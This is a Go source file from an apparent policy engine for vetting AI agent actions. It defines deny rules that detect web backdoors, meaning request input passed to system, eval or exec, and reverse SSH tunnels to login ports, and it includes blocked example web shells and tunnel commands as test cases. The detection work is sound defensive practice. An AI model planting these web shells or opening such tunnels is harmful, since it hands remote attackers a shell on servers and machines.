package policy

import "strings"

// A web backdoor: code written into a file that hands a request's input
// to a shell or an evaluator (system($_GET["c"]), eval(req.body),
// os.system(request.args…), Runtime.exec(request.getParameter…)). Served
// by the app, it gives whoever finds the URL a shell on the server; no
// feature needs it.

// webShell matches a request's input given to a command runner or eval.
var webShell = re(`(?i)(\b(system|exec|shell_exec|passthru|popen|proc_open|eval|assert|pcntl_exec)\s*\(\s*(base64_decode\s*\(\s*)?\$_(GET|POST|REQUEST|COOKIE|SERVER)\b)|` +
	`(\b(eval|exec|execSync|spawn|spawnSync|Function)\s*\(\s*req\.(query|body|params|headers)\b)|` +
	`(\b(os\.system|os\.popen|subprocess\.\w+|eval|exec)\s*\(\s*(flask\.)?request\.(args|form|values|data|json|GET|POST)\b)|` +
	`(Runtime\.getRuntime\(\)\.exec\s*\(\s*request\.getParameter)|` +
	`(\beval\s*\(\s*Request(\.Form|\.QueryString|\.Item)?\s*\()`)

func webBackdoorRule() Rule {
	return Rule{ID: "external.systems:web-backdoor", Mode: Deny,
		Desc: "Code written into a file that gives a web request's input to a shell or an evaluator (system($_GET[…]), eval(req.body), os.system(request.args…), Runtime.exec(request.getParameter…)): served, it is a shell on the server for whoever finds the URL",
		Match: func(e *Env) string {
			text := e.F.Content
			if text == "" {
				// a command line: only one that names request input can hold a backdoor
				if c := e.F.Command; !strings.Contains(c, "$_") && !strings.Contains(c, "req") && !strings.Contains(c, "Req") {
					return ""
				}
				text = writtenText(e.F)
			}
			if text == "" || len(text) > 2<<20 || !strings.Contains(text, "$_") && !strings.Contains(text, "req") && !strings.Contains(text, "Req") {
				return ""
			}
			if m := webShell.FindString(text); m != "" {
				return "the written code runs a web request's input (" + m + "): a backdoor on whatever serves it"
			}
			return ""
		},
		Catch: []string{`echo '<?php system($_GET["c"]); ?>' > public/health-check.php`, `{"tool_name":"Write","tool_input":{"file_path":"public/x.php","content":"<?php eval($_POST['p']); ?>"}}`,
			`{"tool_name":"Write","tool_input":{"file_path":"routes/debug.js","content":"app.get('/d', (req, res) => res.send(require('child_process').execSync(req.query.cmd)))"}}`,
			`{"tool_name":"Write","tool_input":{"file_path":"app/dbg.py","content":"@app.route('/x')\ndef x():\n    return os.popen(request.args['c']).read()"}}`},
		Allow: []string{`echo '<?php echo htmlspecialchars($_GET["q"]); ?>' > public/search.php`, `{"tool_name":"Write","tool_input":{"file_path":"routes/a.js","content":"app.get('/a', (req, res) => res.json(req.query))"}}`,
			`{"tool_name":"Write","tool_input":{"file_path":"app/v.py","content":"name = request.args.get('name')\nsubprocess.run(['ls'])"}}`, "cat public/index.php"},
	}
}

// loginTunnelRule: a reverse tunnel that forwards another host's
// port to this machine's login service (ssh -R 2222:localhost:22): whoever
// reaches that host reaches this machine's shell, long after the session.
func loginTunnelRule() Rule {
	return cmdRule("external.systems:login-tunnel", Deny, "A reverse tunnel from another host to this machine's login or remote-desktop service (ssh -R 2222:localhost:22, autossh -R …:22, ports 22, 3389, 5900): whoever reaches that host gets this machine's shell; tunnels to a web app's port stay core.net:tunnel (ask)", []string{"ssh", "autossh"},
		func(e *Env, c *Cmd) string {
			for i, a := range c.Args {
				spec := ""
				switch {
				case a == "-R" && i+1 < len(c.Args):
					spec = c.Args[i+1]
				case strings.HasPrefix(a, "-R") && len(a) > 2:
					spec = a[2:]
				case strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.HasSuffix(a, "R") && i+1 < len(c.Args):
					spec = c.Args[i+1] // -fNR 2222:localhost:22
				default:
					continue
				}
				parts := strings.Split(spec, ":")
				if len(parts) < 3 {
					continue
				}
				host, port := parts[len(parts)-2], parts[len(parts)-1]
				if (host == "localhost" || host == "127.0.0.1" || host == "[::1]" || host == "0.0.0.0") && (port == "22" || port == "3389" || port == "5900") {
					return c.Name + " -R " + spec + " opens this machine's login service to " + strings.Join(c.Pos, " ") + ": " + c.String()
				}
			}
			return ""
		},
		[]string{"ssh -fN -R 2222:localhost:22 dev@198.51.100.20", "ssh -N -R 0.0.0.0:9000:localhost:22 user@vps.example.net", "autossh -M 0 -R 2200:127.0.0.1:22 relay@host", "ssh -R 5901:localhost:5900 me@box"},
		[]string{"ssh -R 8080:localhost:3000 demo@host", "ssh -L 2222:localhost:22 bastion", "ssh -N -L 5433:localhost:5432 bastion", "ssh host uptime"})
}
